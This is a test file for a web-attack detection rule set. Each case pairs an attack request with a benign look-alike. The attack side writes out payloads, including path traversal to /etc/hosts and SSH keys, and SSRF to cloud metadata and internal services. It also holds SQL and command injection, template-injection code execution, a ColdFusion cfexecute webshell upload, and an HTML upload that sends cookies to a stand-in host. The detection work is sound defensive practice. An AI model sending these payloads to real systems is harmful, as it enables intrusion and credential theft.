/**
 * Bundled rules of rev 2026-12-08p (issue 18, session 23): mechanisms held-out-16's misses showed after its blind
 * measurement, and held-out-14/15's left ones, written for the class of exploit rather than the product. Each fires on
 * its attack, sent the way such an exploit sends it, and stays quiet on the benign request closest to it (a file
 * parameter naming a site document, a relative asset path, an encoded-once URL in a path, a private URL with a path,
 * prose starting with or, a list of hosts, a compiler flag, an import statement in a code sample, an HTML page of text,
 * code reading a file through a variable, a question about subprocess, Elixir outside a template tag, a ColdFusion page
 * without cfexecute, an export to CSV, a bean getter in a path, a CI include from a host name, a message that goes on
 * after a line break, a note naming core.sshCommand, a Jenkins descriptor check at the root).
 */
import { describe } from 'vitest';
import type { RequestSpec } from './fixtures.js';
import { BROWSER, form, json, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet, get, postForm } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const upload = (name: string, content: string, url = '/upload.php'): RequestSpec => {
  const b = '----WebKitFormBoundaryH7k2Lm9Qx4Zt1Wc8';
  const body = `--${b}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: application/octet-stream\r\n\r\n${content}\r\n--${b}\r\nContent-Disposition: form-data; name="dir"\r\n\r\nfile\r\n--${b}--\r\n`;
  return { method: 'POST', url, headers: [...BROWSER, ['Content-Type', `multipart/form-data; boundary=${b}`]], body };
};

const CASES: RuleCase[] = [
  [9000463, 'block', 'a path parameter given /etc/hosts', get('/wp-content/plugins/site-editor/editor/extensions/pagebuilder/includes/ajax_shortcode_pattern.php?ajax_path=%2Fetc%2Fhosts'), get('/download?file=%2Fuploads%2F2026%2Freport.pdf&q=%2Fetc%2Fhosts')],
  [9000463, 'block', 'a template path into /proc/self', get('/index.php?template=%2Fproc%2Fself%2Fenviron'), { method: 'PATCH', url: '/api/projects/42/config', headers: [...BROWSER, ['Content-Type', 'application/json']], body: '{"config_path":"/etc/hosts","watch":["/etc/hosts"]}' }],
  [9000463, 'block', 'a file parameter given a Windows win.ini', get('/download.php?file=C:%5CWindows%5Cwin.ini'), get('/files?file=%2Froot%2Fbackup.log&doc=C:%5CWindows%5CSystem32%5Cdrivers%5Cetc%5Chosts+notes')],
  [9000464, 'block', 'wp_lang climbing to /dev/shm', get('/wp-login.php?wp_lang=.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/dev/shm/0akc'), get('/app?asset=../../../../assets/app.js')],
  [9000465, 'block', 'a dot-dot segment between two path prefixes', get('/+CSCOU+/../+CSCOE+/files/file_list.json?path=/'), get('/docs/v1.2/guide/..more.html?x=..%2f')],
  [9000465, 'block', 'an encoded-slash dot-dot segment', get('/+CSCOU+/..%2f+CSCOE+/files/file_list.json?path=/sessions'), get('/search?q=/a/../b')],
  [9000565, 'block', 'a twice-encoded URL in the path', get('/avatar/1%3Fd%3Dhttp%253A%252F%252Fi0.wp.com%252F169.254.169.254%252Flatest%252Fmeta-data%252F'), get('/share/https%3A%2F%2Fwww.example.org%2Fpost%2F1')],
  // rev 3: a cluster's API address, registered by a GitOps tool, is no probe (blind benign 7's Argo CD application).
  [9000566, 'block', 'a JSON source URL at the kubelet', json('{"url":"https://10.0.0.1:10250/"}'), json('{"destination":{"server":"https://10.0.0.1:6443","namespace":"shop"}}')],
  [9000566, 'block', 'a JSON import URL at an internal Redis', json('{"url":"http://127.0.0.1:6379/"}'), json('{"url":"http://127.0.0.1:6379/health","redirect_uris":["http://127.0.0.1:8250/"]}')],
  // Rev 2: a bare private or loopback origin alone is what legitimate clients send too (an OAuth native app's loopback
  // redirect, a device's address, a dev origin); rev 1 blocked these.
  // rev 4: Elasticsearch, Consul, etcd and CouchDB are HTTP services dashboards are pointed at by URL (a Grafana data source).
  [9000566, 'block', 'a webhook form field at an internal memcached', postForm('/settings', 'webhook=http%3A%2F%2F10.0.4.22%3A11211%2F&save=1'), postForm('/realms/main/protocol/openid-connect/token', 'grant_type=authorization_code&code=4%2F0AX4&redirect_uri=http%3A%2F%2F127.0.0.1%3A53682%2F&client_id=cli')],
  [9000566, 'block', 'a JSON source at an internal Docker API', json('{"source":"http://10.0.4.22:2375"}'), json('{"name":"ES","type":"elasticsearch","url":"http://10.0.4.22:9200","access":"proxy"}')],
  [9000566, 'block', 'a JSON value at an internal MongoDB', json('{"source":"http://172.17.0.2:27017"}'), json('{"name":"Living room","host":"http://192.168.1.50","allowed_origins":"http://127.0.0.1:5173"}')],
  [9000167, 'block', 'a replacement opening with OR true; DROP TABLE', json('{"firstName":"OR true; DROP TABLE users;","lastName":":firstName"}'), json('{"q":"or true love; a song","bio":"and 1 more; thanks"}')],
  [9000366, 'block', 'an NTP server with ;id appended', get('/camera-cgi/admin/param.cgi?action=update&root.Time.NTP.Server=pool.ntp.org;id&root.Time.NTP.Enable=1'), get('/settings?servers=pool.ntp.org;time.example.org&mode=id')],
  [9000365, 'block', 'a git grep search opening with -O and a command', postForm('/website/tree/main/search', 'query=-Oecho+95hj9sna'), postForm('/website/tree/main/search', 'query=-O2+optimization+flags')],
  [9000261, 'block', 'a marquee onstart importing a module', form('display_name=TS90AA&bio=Hi%2C+I+am+WyhP8+%3Cmarquee+onstart%3Dimport(%27http%3A%2F%2Fsync.example.ru%2F4ovmpg.js%27)%3EXAEa%3C%2Fmarquee%3E&save=1'), json('{"snippet":"<script type=\\"module\\">import(\'./app.js\')</script> and <button onclick=\\"save()\\">"}')],
  [9000260, 'suspicious', 'an uploaded .html running script', upload('CYJU.html', '<html><body><script>alert(document.domain)</script></body></html>', '/editor/kindeditor/jsp/upload_json.jsp?dir=file'), upload('readme.html', '<html><body><h1>Read me</h1><p>See <a href="/docs">the docs</a>.</p></body></html>')],
  [9000260, 'suspicious', 'an uploaded .html with an onload handler', upload('a.html', '<html><body onload="document.location=\'https://x.example.net/?c=\'+document.cookie"></body></html>'), upload('chart.html', '<script src="https://cdn.jsdelivr.net/npm/chart.js"></script>\n<canvas id="sales" width="400" height="200"></canvas>')],
  [9000260, 'suspicious', 'an uploaded .htm with a meta refresh', upload('7QPni.htm', '<html><head><meta http-equiv="refresh" content="0;url=https://58.106.230.118:4444/q"></head></html>'), upload('invoice.html', '<!doctype html><html><head><script src="/app.js"></script></head><body onload="init()"><canvas id="c"></canvas><script>new Chart(document.getElementById("c"), {})</script></body></html>')],
  [9001373, 'block', 'a Python template reading /etc/hosts', json('[["template"],"","","",1,"python:def evaluate(a, b):\\n return open(\'/etc/hosts\').read()"]'), json('{"code":"with open(path) as f:\\n    data = f.read()  # path is ./config/hosts"}')],
  [9001373, 'block', 'an Elixir template reading /root/.ssh', json('{"template":{"body":"<%= File.read!(\\"/root/.ssh/id_rsa\\") %>"}}'), json('{"template":{"body":"<%= File.read!(\\"templates/footer.txt\\") %>"}}')],
  [9001374, 'block', 'subprocess running sh -c', json('[["template"],"","","",1,"python:def evaluate(a, b):\\n import subprocess\\n return subprocess.check_output([\'sh\', \'-c\', \'uname -a\']).decode()"]'), json('{"body":"How do I escape a quote in `subprocess.run([\'bash\', \'-c\', cmd])`?"}')],
  [9001375, 'block', 'an EEx tag running System.cmd', json('{"template":{"name":"receipt","body":"Hello <%= System.cmd(\\"echo\\", [\\"x\\"]) |> elem(0) %>"}}'), json('{"answer":"Use System.cmd(\\"git\\", [\\"status\\"]) in a Mix task, not in a template"}')],
  [9001376, 'block', 'an uploaded .cfm with cfexecute', upload('guwo.cfm', '<cfexecute name="cmd.exe" arguments="/c #url.cmd#" timeout="10" variable="o"></cfexecute><cfoutput>#o#</cfoutput>', '/cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/upload.cfm'), upload('page.cfm', '<cfoutput>Hello #url.name#</cfoutput>')],
  [9001377, 'block', 'a barcode written to a .php path', get('/wp-content/plugins/wpcargo/includes/barcode.php?text=1x1x&sizefactor=.090909090909&size=2&filepath=hcf1e.php'), get('/export?output=report.pdf&filepath=exports%2Forders.csv&page=index.php')],
  [9001378, 'block', 'a vSAN proxy call to setTargetMethod', { method: 'POST', url: '/ui/h5-vsan/rest/proxy/service/&vsanProviderUtils_setVmodlHelper/setTargetMethod', headers: [...BROWSER, ['Content-Type', 'application/json']], body: '{"methodInput":["exec"]}' }, get('/api/beans/vsanProviderUtils/getTargetMethod?x=setTargetMethod')],
  [9000567, 'block', 'a CI lint include: remote of an IP literal', json('{"include_merged_yaml":true,"content":"include:\\n  remote: https://106.92.236.191:443/eypkva.yml"}'), json('{"include_merged_yaml":true,"content":"include:\\n  remote: https://gitlab.com/group/templates/ci.yml"}')],
  [9000567, 'block', 'an OpenAPI $ref to the metadata address', json('{"openapi":"3.0.0","components":{"schemas":{"A":{"$ref":"http://169.254.169.254/latest/meta-data/"}}}}'), json('{"openapi":"3.0.0","components":{"schemas":{"A":{"$ref":"#/components/schemas/B","description":"see http://169.254.169.254/ docs"}}}}')],
  [9000367, 'block', 'a ping address that is a line break and hostname', postForm('/cgi-bin/system_log.cgi', 'Command=Diagnostic&traceMode=ping&pingIpAddress=\nhostname&pingPktSize=56'), postForm('/contact', 'name=Ann&message=%0Aid+card+photo+attached&host=%0Ahostname.example.org')],
  [9000368, 'block', 'a branch argument setting core.sshCommand', postForm('/api/repos/7/checkout', 'branch=-c+core.sshCommand%3Dsh+-c+id&remote=origin'), postForm('/api/notes', 'text=Set+core.sshCommand%3Dssh+-i+key+in+.git%2Fconfig&tag=-c')],
  [9001562, 'block', 'a Jira action path with a bare ;', get('/InsightPluginShowGeneralConfiguration.jspa;'), get('/secure/Dashboard.jspa;jsessionid=8F3A2C1D9E7B6A5F4C3B2A1D0E9F8A7B?selectPageId=10000')],
  [9001561, 'block', 'GitHub plugin createTokenByPassword', get('/jenkins/descriptorByName/org.jenkinsci.plugins.github.config.GitHubTokenCredentialsCreator/createTokenByPassword?apiUrl=http%3A%2F%2F118.227.64.29%2Fdy6n9&login=a&password=b'), get('/jenkins/descriptorByName/hudson.plugins.git.UserRemoteConfig/checkUrl?value=https%3A%2F%2Fgithub.com%2Fx%2Fy.git')],
];

describe("bundled rules for held-out-16's exploit mechanisms (rev 2026-12-08p)", () => {
  testRuleCases(CASES, hits);

  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
